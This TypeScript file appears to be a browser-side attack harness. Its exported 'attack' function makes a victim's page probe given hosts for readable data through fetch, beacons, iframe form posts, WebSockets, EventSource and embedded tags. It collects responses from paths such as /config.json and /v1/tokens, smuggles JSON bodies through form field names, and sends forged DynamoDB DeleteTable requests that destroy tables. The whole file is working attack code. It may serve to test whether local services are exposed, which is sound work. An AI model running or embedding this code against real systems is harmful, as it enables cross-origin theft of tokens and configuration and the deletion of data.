/// <reference lib="dom" />
/** What a page got. */
export type Loot = {
  readonly tried: number;
  /** Address, path and body of each answer that the page could read. */
  readonly read: readonly string[];
  /** Sockets and event sources that opened. */
  readonly opened: readonly string[];
};

type Aim = { readonly places: readonly string[]; readonly tables: readonly string[] };

/** Tries every way to reach an address. Runs in the page. */
export const attack = async ({ places, tables }: Aim): Promise<Loot> => {
  const [read, opened]: [string[], string[]] = [[], []];
  let tried = 0;
  const wait = (ms: number): Promise<undefined> => new Promise(done => setTimeout(() => done(undefined), ms));
  // A form to a refused port tells nobody that it failed.
  const within = <T>(work: Promise<T>): Promise<T | undefined> => Promise.race([work, wait(3_000)]);
  const paths = ['/', '/config.json', '/v1/tokens', '/ingest/canonical', '/x402/v1/tokens', '/health', '/ws'];
  const dynamo = (action: string) => ({
    'Content-Type': 'application/x-amz-json-1.0',
    'X-Amz-Target': `DynamoDB_20120810.${action}`,
    'X-Amz-Date': '20200101T000000Z',
    Authorization:
      'AWS4-HMAC-SHA256 Credential=local/20200101/us-east-1/dynamodb/aws4_request, SignedHeaders=host, Signature=0',
  });
  const steal = async (place: string, path: string, init: RequestInit): Promise<void> => {
    tried += 1;
    const answer = await within(fetch(`http://${place}${path}`, init).catch(() => undefined));
    const text = answer && (await answer.text().catch(() => ''));
    if (text) read.push(`${place}${path}: ${text}`);
  };
  const submit = async (place: string, path: string, enctype: string): Promise<void> => {
    tried += 1;
    const frame = document.body.appendChild(document.createElement('iframe'));
    frame.name = `frame${tried}`;
    const form = document.body.appendChild(document.createElement('form'));
    Object.assign(form, { method: 'post', enctype, target: frame.name, action: `http://${place}${path}` });
    const field = form.appendChild(document.createElement('input'));
    Object.assign(field, { name: `{"TableName":"${tables[0]}","x":"`, value: '"}' });
    const loaded = new Promise<void>(done => frame.addEventListener('load', () => done()));
    form.submit();
    await within(loaded);
    try {
      const text = frame.contentDocument?.body.textContent;
      if (text) read.push(`${place}${path}: ${text}`);
    } catch {
      // Of another origin.
    }
    frame.remove();
  };
  const listen = async (place: string, path: string): Promise<void> => {
    tried += 2;
    try {
      const [socket, source] = [new WebSocket(`ws://${place}${path}`), new EventSource(`http://${place}${path}`)];
      const untilOpen = (target: WebSocket | EventSource): Promise<void> =>
        new Promise(done => {
          target.addEventListener('open', () => opened.push(`${place}${path}`));
          for (const event of ['open', 'error']) target.addEventListener(event, () => done());
        });
      await within(Promise.all([untilOpen(socket), untilOpen(source)]));
      socket.close();
      source.close();
    } catch {
      // The browser refuses the port.
    }
  };
  const embed = async (place: string, path: string): Promise<void> => {
    for (const tag of ['img', 'script', 'iframe'] as const) {
      tried += 1;
      const element = document.createElement(tag);
      const over = new Promise<void>(done => {
        for (const event of ['load', 'error']) element.addEventListener(event, () => done());
      });
      element.src = `http://${place}${path}`;
      document.body.append(element);
      await within(over);
      element.remove();
    }
  };
  const plain = { method: 'POST', headers: { 'Content-Type': 'text/plain' }, body: '{"TableName":"x"}' };
  const enctypes = ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data'];
  for (const place of places) {
    await steal(place, '/', { method: 'POST', headers: dynamo('ListTables'), body: '{}' });
    for (const path of paths) navigator.sendBeacon(`http://${place}${path}`, plain.body);
    await Promise.all([
      ...paths.flatMap(path => [
        steal(place, path, {}),
        steal(place, path, plain),
        steal(place, path, { ...plain, mode: 'no-cors' }),
        steal(place, path, { mode: 'no-cors' }),
        listen(place, path),
      ]),
      ...enctypes.flatMap(enctype => ['/', '/ingest/canonical'].map(path => submit(place, path, enctype))),
      ...['/', '/config.json'].map(path => embed(place, path)),
      ...tables.map(TableName =>
        steal(place, '/', { method: 'POST', headers: dynamo('DeleteTable'), body: JSON.stringify({ TableName }) }),
      ),
    ]);
  }
  return { tried, read, opened };
};
